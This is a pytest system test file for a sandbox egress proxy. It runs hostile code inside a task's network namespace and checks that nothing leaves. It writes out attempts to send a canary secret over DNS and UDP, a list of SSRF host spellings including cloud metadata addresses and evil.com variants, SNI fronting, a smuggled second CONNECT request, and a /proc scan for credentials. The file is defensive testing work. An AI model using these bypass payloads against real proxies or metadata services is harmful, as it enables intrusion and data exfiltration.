"""Abuse of a task's network, tried by a real program in it and judged from outside of it.

The program has a namespace with only `lo`, a relay and its task's own credential, and every
right of root there. The sandbox around it is tested elsewhere: here it is the network that holds.
"""

import contextlib
import os
import socket
from collections.abc import AsyncGenerator
from dataclasses import dataclass, field
from ipaddress import ip_address
from pathlib import Path

import pytest

from cmesh.clock import SystemClock
from cmesh.model import TaskId
from cmesh.runner.egress.addresses import refusal
from cmesh.runner.egress.network import variables
from cmesh.runner.egress.outside import INTERNET
from cmesh.runner.egress.proxy import Proxy
from tests.fakes.egress import (
    ALLOWED,
    TOKEN,
    Audit,
    Upstream,
    client_hello,
    loopback_outside,
    network,
    upstream,
)
from tests.security.fuzz_network import fuzz
from tests.system.egress.support import PORT, PYTHON, run

pytestmark = [pytest.mark.anyio, pytest.mark.system, pytest.mark.network_namespace]

TASK = TaskId("00000000-0000-7000-8000-000000000001")
OTHER = TaskId("00000000-0000-7000-8000-000000000002")
OTHER_TOKEN = "token-of-the-other-task"
SECRET = "canary-7f3a"
FUZZED_IN_CI = 4_000

PRELUDE = f"""
import base64, os, socket, struct, sys
SECRET = b"{SECRET}"
def ask(host="{ALLOWED}", port=443, token="{TOKEN}", then=b"", extra=""):
    with socket.create_connection(("127.0.0.1", {PORT}), 20) as c:
        credential = base64.b64encode(b"task:" + token.encode()).decode()
        head = f"CONNECT {{host}}:{{port}} HTTP/1.1\\r\\nProxy-Authorization: Basic {{credential}}\\r\\n"
        c.sendall((head + extra + "\\r\\n").encode("utf-8", "surrogateescape"))
        answer = b""
        while not answer.endswith(b"\\r\\n\\r\\n"):
            more = c.recv(1)
            if not more:
                break
            answer += more
        if b" 200 " not in answer:
            return answer.split(b"\\r\\n")[0]
        c.sendall(then)
        c.shutdown(socket.SHUT_WR)
        return c.makefile("rb").read()
def hello(name):
    import ssl
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    sent = ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname=name)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        return sent.read()
def tried(*address, kind=socket.SOCK_STREAM):
    family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
    with socket.socket(family, kind) as s:
        s.settimeout(5)
        try:
            s.connect(address)
            s.send(SECRET)
            return s.recv(100) if kind is socket.SOCK_STREAM else b"sent"
        except OSError as error:
            return error.strerror or type(error).__name__
"""


@dataclass
class Host:
    """The machine around the task: what listens there, and what it heard."""

    door: Path
    audit: Audit
    server: Upstream
    listeners: list[socket.socket] = field(default_factory=list[socket.socket])

    async def attempt(self, code: str) -> str:
        """Run hostile code; return what it printed. Not a byte may have come anywhere."""
        env = variables(network())
        status, out = await run(self.door, *PYTHON, PRELUDE + code, env=env)
        assert status == 0, out
        assert not self.server.data
        assert not self.heard()
        return out.strip()

    def heard(self) -> list[object]:
        found: list[object] = []
        for listener in self.listeners:
            with contextlib.suppress(BlockingIOError):
                stream = listener.type == socket.SOCK_STREAM
                found.append(listener.accept() if stream else listener.recvfrom(1000))
        return found

    def codes(self) -> list[object]:
        return [row["code"] for kind, row in self.audit.rows if kind == "connection"]


@pytest.fixture
async def host(tmp_path: Path) -> AsyncGenerator[Host]:
    audit = Audit()
    # Without TLS, so that each byte that gets out is seen.
    async with upstream() as server:
        proxy = Proxy(audit, SystemClock(), outside=loopback_outside(server.port))
        proxy.open(TASK, network(), tmp_path / "net" / "daemon")
        proxy.open(OTHER, network(token=OTHER_TOKEN), tmp_path / "other" / "daemon")
        made = Host(tmp_path / "net" / "daemon", audit, server)
        for address, kind in (
            (("127.0.0.1", 0), socket.SOCK_STREAM),
            (("127.0.0.2", PORT), socket.SOCK_STREAM),
            (("127.0.0.1", 0), socket.SOCK_DGRAM),
        ):
            listener = socket.socket(socket.AF_INET, kind)
            listener.bind(address)
            if kind == socket.SOCK_STREAM:
                listener.listen()
            listener.setblocking(False)
            made.listeners.append(listener)
        yield made
        for listener in made.listeners:
            listener.close()
        await proxy.close()


async def test_what_is_allowed_works_or_nothing_here_would_mean_anything(host: Host) -> None:
    code = f'print(ask(then=hello("{ALLOWED}"))[:1])'
    status, out = await run(host.door, *PYTHON, PRELUDE + code)
    assert (status, out) == (0, "b'\\x16'\n")
    assert host.codes() == ["host"]
    assert host.server.connections == 1


async def test_18_a_task_cannot_call_the_daemon_or_any_port_of_its_host(host: Host) -> None:
    port = host.listeners[0].getsockname()[1]
    told = await host.attempt(f'print(tried("127.0.0.1", {port}), tried("::1", {port}))')
    assert told == "Connection refused Connection refused"


async def test_the_allowed_port_at_a_second_loopback_address_reaches_nothing(host: Host) -> None:
    assert await host.attempt(f'print(tried("127.0.0.2", {PORT}))') == "Connection refused"


async def test_dns_and_udp_are_closed(host: Host) -> None:
    port = host.listeners[2].getsockname()[1]
    told = await host.attempt(f"""
print(tried("192.0.2.53", 53, kind=socket.SOCK_DGRAM))
print(tried("2001:db8::53", 53, kind=socket.SOCK_DGRAM))
try:
    print(socket.getaddrinfo("{SECRET}.example.com", 443))
except OSError as error:
    print(type(error).__name__)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.sendto(SECRET, ("127.0.0.1", {port}))
""")
    unreachable = "Network is unreachable"
    assert told.splitlines() == [unreachable, unreachable, "gaierror"]


async def test_a_raw_socket_or_a_new_interface_leads_nowhere(host: Host) -> None:
    # As root of its own namespace: more than any task has.
    told = await host.attempt("""
import subprocess
subprocess.run("ip link add d0 type dummy; ip addr add 203.0.113.5/24 dev d0; ip link set d0 up;"
    "ip route add default dev d0", shell=True, stderr=subprocess.DEVNULL)
print(tried("203.0.113.9", 443) != b"", tried("8.8.8.8", 53, kind=socket.SOCK_DGRAM) != b"")
""")
    assert told == "True True"


@pytest.mark.parametrize(
    "target",
    [
        "evil.example.com", "EVIL.example.com", f"{ALLOWED}.evil.com", f"evil-{ALLOWED}",
        f"{ALLOWED}.", f"evil.com/{ALLOWED}", f"{ALLOWED}@evil.com", f"{ALLOWED}\\0.evil.com",
        f"{ALLOWED}%00.evil.com", "\u0430pi.example.com", "127.0.0.1", "0x7f000001", "2130706433",
        "0177.0.0.1", "127.1", "[::1]", "[::ffff:127.0.0.1]", "localhost", "169.254.169.254",
        "metadata.google.internal", "100.100.100.100", f"{SECRET}.evil.com",
    ],
)  # fmt: skip
async def test_another_host_in_whatever_spelling_is_refused(host: Host, target: str) -> None:
    told = await host.attempt(f"print(ask({target.encode()!r}.decode()))")
    assert "403" in told
    assert host.codes()[0] in {"host_refused", "bad_request"}


@pytest.mark.parametrize("port", [22, 25, 53, 80, 7333, 8443, 65536, 4294967739])
async def test_another_port_of_an_allowed_host_is_refused(host: Host, port: int) -> None:
    assert "403" in await host.attempt(f"print(ask(port={port}))")
    assert host.codes()[0] in {"port_refused", "bad_request"}


@pytest.mark.parametrize("token", ["", "x", TOKEN[:-1], OTHER_TOKEN])
async def test_another_task_s_credential_opens_nothing(host: Host, token: str) -> None:
    assert "407" in await host.attempt(f"print(ask(token={token!r}))")
    assert host.codes() == ["wrong_token"]


async def test_fronting_by_another_name_in_tls_is_refused(host: Host) -> None:
    told = await host.attempt('print(ask(then=hello("evil.com")), ask(then=hello(None)))')
    assert told.count("\\x02p") == 2  # fatal alert 112, unrecognized_name
    assert host.codes() == ["tls_refused", "tls_refused"]


async def test_a_name_hidden_by_encrypted_client_hello_is_refused(host: Host) -> None:
    hello = bytearray(client_hello())
    # The extension's number over that of one that any client sends (extended_master_secret).
    at = hello.index(b"\x00\x17\x00\x00")
    hello[at : at + 2] = b"\xfe\x0d"
    await host.attempt(f"ask(then={bytes(hello)!r})")
    (row,) = await host.audit.wait("connection")
    assert "ECH" in str(row["reason"])


@pytest.mark.parametrize(
    "then", [b"GET / HTTP/1.1\r\n\r\n", b"SSH-2.0-x\r\n", SECRET.encode() * 2000, b"\x16\x03\x01"]
)
async def test_what_is_no_tls_does_not_leave(host: Host, then: bytes) -> None:
    await host.attempt(f"ask(then={then!r})")
    assert host.codes() == ["tls_refused"]


async def test_a_smuggled_second_request_is_never_read(host: Host) -> None:
    second = f"CONNECT evil.com:443 HTTP/1.1\\r\\n\\r\\n{SECRET}"
    told = await host.attempt(
        f'print(ask("evil.com", extra="Content-Length: 60\\r\\n\\r\\n{second}"))'
    )
    assert "403" in told
    assert host.codes() == ["host_refused"]


async def test_21_the_credential_stands_in_no_argument_row_or_answer(host: Host) -> None:
    told = await host.attempt("""
import glob
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        data = open(path, "rb").read()
    except OSError:
        continue
    # This program's own code holds it, as does the relay that was forked from its launcher.
    if b"token-of-this" in data and b"in_namespace" not in data and b"PRELUDE" not in data \
            and b"def ask(" not in data:
        print(path)
print(ask(token="x"), ask("evil.com"), ask(port=22))
""")
    assert "token-of-this" not in told
    assert TOKEN not in str(host.audit.rows)


async def test_11_idle_connections_hold_up_no_other_task(host: Host) -> None:
    code = f"""
held = [socket.create_connection(("127.0.0.1", {PORT}), 20) for _ in range(90)]
print(sum(c.recv(1) == b"H" for c in held[64:]))
"""
    env = variables(network())
    status, out = await run(host.door, *PYTHON, PRELUDE + code, env=env)
    assert (status, out) == (0, "26\n")
    allowed = f'print(ask(then=hello("{ALLOWED}"), token="{OTHER_TOKEN}")[:1])'
    other = host.door.parent.parent / "other" / "daemon"
    status, out = await run(other, *PYTHON, PRELUDE + allowed)
    assert (status, out) == (0, "b'\\x16'\n")


def test_no_setting_turns_the_rule_for_addresses_off() -> None:
    assert INTERNET.refusal is refusal
    assert INTERNET.refusal(ip_address("127.0.0.1")) == "loopback"


def test_thousands_of_random_requests_crash_nothing() -> None:
    found = fuzz(FUZZED_IN_CI, seed=int(os.environ.get("PYTEST_SEED", "7")))
    assert found.inputs == FUZZED_IN_CI
    assert found.crashes == []
    assert found.refused > FUZZED_IN_CI // 2
    assert found.through_proxy > 0
    assert found.growth_kib < 20 * 1024
